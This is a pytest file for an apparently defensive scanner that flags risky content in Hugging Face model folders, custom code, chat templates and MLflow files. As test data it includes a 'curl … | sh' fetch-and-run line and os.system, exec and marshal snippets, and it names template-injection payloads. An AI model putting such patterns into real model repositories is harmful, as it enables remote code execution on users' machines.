"""Hugging Face folder documents, code files and MLflow MLmodel files."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlgate.gates.model_scan.context import ScanContext
from mlgate.gates.model_scan.formats.hf import (
    check_code_file,
    check_json_document,
    check_mlflow_mlmodel,
    check_template_file,
)
from mlgate.model import Severity

from . import _templates as T
from ._util import formats, ids, only

LLAMA_CONFIG = {
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2,
    "num_attention_heads": 4, "vocab_size": 128, "torch_dtype": "bfloat16", "transformers_version": "4.44.0",
}
REMOTE_CODE_CONFIG = {
    **LLAMA_CONFIG,
    "architectures": ["PhiForCausalLM"],
    "auto_map": {
        "AutoConfig": "configuration_phi.PhiConfig",
        "AutoModelForCausalLM": "modeling_phi.PhiForCausalLM",
    },
}
MODELING_PY = '''"""Custom architecture."""
import math
from typing import Optional

import torch
from torch import nn
from transformers.modeling_utils import PreTrainedModel

from .configuration_phi import PhiConfig


class PhiForCausalLM(PreTrainedModel):
    config_class = PhiConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size)
'''


def scan_folder(folder: Path, ctx: ScanContext) -> None:
    """A stand-in for the dispatcher: route each file of a model folder to its checker."""
    for p in sorted(folder.rglob("*")):
        if p.suffix == ".json":
            check_json_document(p.name, json.loads(p.read_text()), ctx)
        elif p.suffix in (".py", ".sh"):
            check_code_file(p.name, p.read_text(), ctx)
        elif p.suffix == ".jinja":
            check_template_file(p.name, p.read_text(), ctx)
        elif p.name == "MLmodel":
            check_mlflow_mlmodel(yaml.safe_load(p.read_text()), ctx)


def write(folder: Path, files: dict[str, Any]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (folder / name).write_text(content if isinstance(content, str) else json.dumps(content))
    return folder


# -- folders ------------------------------------------------------------------------------------


def test_plain_transformers_folder_is_clean(tmp_path: Path, ctx: Any) -> None:
    folder = write(tmp_path / "m", {
        "config.json": LLAMA_CONFIG,
        "generation_config.json": {"bos_token_id": 1, "eos_token_id": 2},
        "tokenizer_config.json": {"bos_token": "<s>", "eos_token": "</s>", "chat_template": T.LLAMA3,
                                  "model_max_length": 4096, "tokenizer_class": "PreTrainedTokenizerFast"},
        "special_tokens_map.json": {"bos_token": "<s>"},
        "chat_template.jinja": T.CHATML,
    })
    scan_folder(folder, ctx)
    assert ctx.findings == [], [f.message for f in ctx.findings]
    assert formats(ctx).count("chat-template") == 2


def test_remote_code_folder(tmp_path: Path, ctx: Any) -> None:
    folder = write(tmp_path / "m", {
        "config.json": REMOTE_CODE_CONFIG,
        "configuration_phi.py": "from transformers import PretrainedConfig\n\nclass PhiConfig(PretrainedConfig):\n"
                                "    model_type = 'phi'\n",
        "modeling_phi.py": MODELING_PY,
    })
    scan_folder(folder, ctx)
    assert ids(ctx) == ["MLG-HF-AUTO-MAP", "MLG-HF-CUSTOM-CODE", "MLG-HF-CUSTOM-CODE"]
    auto = only(ctx, "MLG-HF-AUTO-MAP")[0]
    assert auto.severity is Severity.HIGH
    assert auto.details["modules"] == ["configuration_phi", "modeling_phi"]
    code = next(f for f in only(ctx, "MLG-HF-CUSTOM-CODE") if f.details["file"] == "modeling_phi.py")
    assert code.details["imports"][:3] == ["import math", "from typing import Optional", "import torch"]
    assert "torch" in code.message


def test_custom_code_severity_comes_from_config(make_ctx: Any) -> None:
    ctx = make_ctx(custom_code_severity="medium")
    check_json_document("config.json", REMOTE_CODE_CONFIG, ctx)
    check_code_file("modeling_phi.py", MODELING_PY, ctx)
    assert [f.severity for f in ctx.findings] == [Severity.MEDIUM, Severity.MEDIUM]


def test_auto_map_pointing_at_another_repository(make_ctx: Any) -> None:
    ctx = make_ctx(custom_code_severity="low")
    cfg = {**LLAMA_CONFIG, "auto_map": {"AutoModel": "someone/other-repo--modeling_x.XModel",
                                        "AutoTokenizer": ["someone/other-repo--tokenization_x.XTok", None]}}
    check_json_document("config.json", cfg, ctx)
    (f,) = ctx.findings
    assert f.severity is Severity.HIGH  # never below high: the code was not in the scanned folder
    assert "another repository" in f.message
    assert f.details["modules"] == ["modeling_x", "tokenization_x"]


def test_auto_map_in_tokenizer_config_and_custom_pipelines(ctx: Any) -> None:
    check_json_document("tokenizer_config.json",
                        {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}}, ctx)
    check_json_document("config.json", {**LLAMA_CONFIG, "custom_pipelines": {
        "text-classification": {"impl": "my_pipeline.MyPipeline", "pt": ["AutoModel"]}}}, ctx)
    assert ids(ctx) == ["MLG-HF-AUTO-MAP", "MLG-HF-AUTO-MAP"]
    assert "my_pipeline.MyPipeline" in ctx.findings[1].message


def test_malicious_chat_template_in_tokenizer_config(ctx: Any) -> None:
    check_json_document("tokenizer_config.json", {"chat_template": [
        {"name": "default", "template": T.CHATML},
        {"name": "tool_use", "template": T.SSTI_NAMESPACE},
    ]}, ctx)
    crit = only(ctx, "MLG-TPL-PYTHON-INTERNALS")
    assert crit
    assert all(f.severity is Severity.CRITICAL for f in crit)
    assert all("tokenizer_config.json:chat_template[tool_use]" in f.message for f in crit)


@pytest.mark.parametrize("doc", ["chat_template.json", "processor_config.json"])
def test_chat_template_documents(doc: str, ctx: Any) -> None:
    check_json_document(doc, {"chat_template": T.SSTI_SUBCLASSES}, ctx)
    assert "MLG-TPL-PYTHON-INTERNALS" in ids(ctx)


def test_jinja_file(ctx: Any) -> None:
    check_template_file("chat_template.jinja", T.CVE_2024_34359, ctx)
    assert "MLG-TPL-PYTHON-INTERNALS" in ids(ctx)


@pytest.mark.parametrize("tpl", [42, [1], [{"name": "x"}], {"default": 3}])
def test_chat_template_of_wrong_shape(tpl: Any, ctx: Any) -> None:
    check_json_document("tokenizer_config.json", {"chat_template": tpl}, ctx)
    assert ids(ctx) == ["MLG-HF-MALFORMED"]


def test_auto_map_of_wrong_type(ctx: Any) -> None:
    check_json_document("config.json", {"auto_map": "modeling_x.X"}, ctx)
    assert ids(ctx) == ["MLG-HF-MALFORMED"]


def test_sentence_transformers_modules_json(ctx: Any) -> None:
    check_json_document("modules.json", [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    ], ctx)
    assert ctx.findings == []
    check_json_document("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.EvilModule"}], ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-MODULE"]


def test_peft_adapter_parent_library(ctx: Any) -> None:
    ok = {"peft_type": "LORA", "auto_mapping": {"base_model_class": "LlamaForCausalLM",
                                                "parent_library": "transformers.models.llama.modeling_llama"}}
    check_json_document("adapter_config.json", ok, ctx)
    assert ctx.findings == []
    bad = {"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "evil_pkg.models"}}
    check_json_document("adapter_config.json", bad, ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-MODULE"]


# -- code files -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "call"),
    [
        ("import os\nos.system('true')\n", "os.system()"),
        ("import subprocess as sp\nsp.run(['true'])\n", "subprocess.run()"),
        ("from os import popen\npopen('true')\n", "os.popen()"),
        ("exec(compile('1', 'x', 'exec'))\n", "exec()"),
        ("import marshal, types\ncode = marshal.loads(b'')\n", "marshal.loads()"),
        ("import ctypes\nctypes.CDLL(None)\n", "ctypes.CDLL()"),
    ],
)
def test_code_that_executes_is_critical(source: str, call: str, ctx: Any) -> None:
    check_code_file("modeling_x.py", source, ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-CODE", "MLG-HF-CODE-EXEC"]
    exe = ctx.findings[1]
    assert exe.severity is Severity.CRITICAL
    assert call in exe.message
    assert exe.location.line is not None


def test_code_that_uses_the_network_is_high(ctx: Any) -> None:
    check_code_file("modeling_x.py", "import requests\nrequests.get('http://example.invalid')\n", ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-CODE", "MLG-HF-CODE-EXEC"]
    assert ctx.findings[1].severity is Severity.HIGH


def test_ordinary_modeling_code_is_only_custom_code(ctx: Any) -> None:
    check_code_file("modeling_phi.py", MODELING_PY + "\nimport os\np = os.path.join('a', 'b')\n", ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-CODE"]
    assert formats(ctx) == ["custom-code"]


def test_shell_and_shebang_scripts(ctx: Any) -> None:
    check_code_file("setup.sh", "#!/bin/sh\ncurl http://example.invalid | sh\n", ctx)
    check_code_file("run", "#!/usr/bin/env python3\nimport os\nos.system('true')\n", ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-CODE", "MLG-HF-CUSTOM-CODE", "MLG-HF-CODE-EXEC"]
    assert ctx.findings[0].details["kind"] == "shell"
    assert ctx.findings[0].details["head"][1].startswith("curl")
    assert ctx.findings[1].details["kind"] == "python"


def test_unparseable_python_is_still_custom_code(ctx: Any) -> None:
    check_code_file("modeling_x.py", "print 'python 2'\n", ctx)
    assert ids(ctx) == ["MLG-HF-CUSTOM-CODE"]


# -- MLflow ---------------------------------------------------------------------------------------

SKLEARN_MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.9
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.0
mlflow_version: 2.13.0
model_uuid: 0d5c7c1c6a3b4c0f9a6b8a3d1f2e3c4b
utc_time_created: '2024-06-01 12:00:00.000000'
"""

PYFUNC_MLMODEL = """\
flavors:
  python_function:
    cloudpickle_version: 3.0.0
    code: code
    env: {conda: conda.yaml}
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.9
mlflow_version: 2.13.0
"""


def test_builtin_flavour_mlmodel_is_clean(ctx: Any) -> None:
    check_mlflow_mlmodel(yaml.safe_load(SKLEARN_MLMODEL), ctx)
    assert ctx.findings == []
    assert formats(ctx) == ["mlflow-mlmodel"]


def test_python_model_with_code_paths(ctx: Any) -> None:
    check_mlflow_mlmodel(yaml.safe_load(PYFUNC_MLMODEL), ctx)
    assert ids(ctx) == ["MLG-MLFLOW-CUSTOM-CODE", "MLG-MLFLOW-CUSTOM-CODE"]
    assert any("python_model" in f.message for f in ctx.findings)
    assert any("code 'code'" in f.message for f in ctx.findings)


@pytest.mark.parametrize(
    "flavor",
    [{"loader_module": "my_company.loader", "data": "model"}, {"loader_module": "mlflow_evil.loader"},
     {"loader_module": "mlflow.pyfunc.model", "model_code_path": "code/model.py"},
     {"loader_module": "mlflow.pyfunc.model", "code_paths": ["src/"]}],
    ids=["custom-loader", "lookalike-prefix", "model-from-code", "code-paths"],
)
def test_custom_code_flavours(flavor: dict[str, Any], make_ctx: Any) -> None:
    ctx = make_ctx(custom_code_severity="critical")
    check_mlflow_mlmodel({"flavors": {"python_function": flavor}}, ctx)
    assert ids(ctx) == ["MLG-MLFLOW-CUSTOM-CODE"]
    assert ctx.findings[0].severity is Severity.CRITICAL


@pytest.mark.parametrize("doc", [None, "text", {"flavors": "x"}, {"artifact_path": "m"}])
def test_malformed_mlmodel(doc: Any, ctx: Any) -> None:
    check_mlflow_mlmodel(doc, ctx)
    assert ids(ctx) == ["MLG-MLFLOW-MALFORMED"]
